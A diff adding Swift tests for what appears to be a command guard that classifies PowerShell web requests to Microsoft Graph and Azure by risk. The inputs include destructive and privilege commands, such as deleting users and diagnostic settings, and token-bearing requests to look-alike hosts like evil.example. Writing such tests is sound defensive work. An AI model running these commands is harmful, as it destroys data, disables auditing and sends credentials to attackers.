@@ -377,6 +377,42 @@ struct ActTests {
     }
 
     @Test(
+        "a web request to a service has the verdict of the request that it sends",
+        arguments: [
+            ("irm -Method Delete -Uri https://graph.microsoft.com/v1.0/users/u -Headers $h", "destructive"),
+            ("irm https://graph.microsoft.com/beta/users/u/revokeSignInSessions -Method Post", "privilege"),
+            ("iwr https://management.azure.com/subscriptions/s/resourceGroups/g -Method DELETE", "destructive"),
+            (
+                "irm -Method Delete https://management.azure.com/s/providers/Microsoft.Insights/diagnosticSettings/d",
+                "privilege"
+            ),
+            ("$h = @{ Authorization = \"Bearer $t\" }; irm https://graph.microsoft.com/v1.0/users -Headers $h", "read"),
+            ("irm https://graph.microsoft.com/v1.0/users -Authentication Bearer -Token $t", "read"),
+        ])
+    func webRequests(_ script: String, _ word: String) {
+        let verdict = Self.engine.judge(script: script, policy: .standard)
+        #expect(verdict.guardClass.rawValue == word, "\(script): \(verdict.reason)")
+        #expect(verdict.decision == (word == "read" ? .allow : .ask), "\(script)")
+    }
+
+    @Test(
+        "a web request that may go elsewhere, or with another sign-in, is one to outsiders",
+        arguments: [
+            "irm https://graph.microsoft.com/v1.0/users -Headers $h",
+            "irm https://graph.microsoft.com:443@evil.example/v1.0/users",
+            "irm http://graph.microsoft.com/v1.0/users", "irm https://graph.microsoft.com.evil.example/v1.0/users",
+            "irm https://graph.microsoft.com/v1.0/users -Proxy http://evil.example",
+            "irm https://evil.example/v1.0/users",
+            "irm https://graph.microsoft.com/v1.0/users/u -Method Patch -Body '{\"jobTitle\": \"x\"}'",
+            "'x' | irm https://graph.microsoft.com/v1.0/users", "irm https://graph.microsoft.com/v1.0/users -InFile x",
+            "$h = @{}; $h['X-HTTP-Method'] = 'DELETE'; irm https://graph.microsoft.com/v1.0/users/u -Headers $h",
+        ])
+    func foreignWebRequests(_ script: String) {
+        let verdict = Self.engine.judge(script: script, policy: .standard)
+        #expect(verdict.guardClass == .external && verdict.decision == .ask, "\(script): \(verdict.reason)")
+    }
+
+    @Test(
         "a cmdlet of Graph that no table lists has the class of the request that its name tells",
         arguments: [
             ("New-MgGroupMemberByRef -GroupId g", "privilege"), ("Remove-MgGroupMemberByRef -GroupId g", "privilege"),
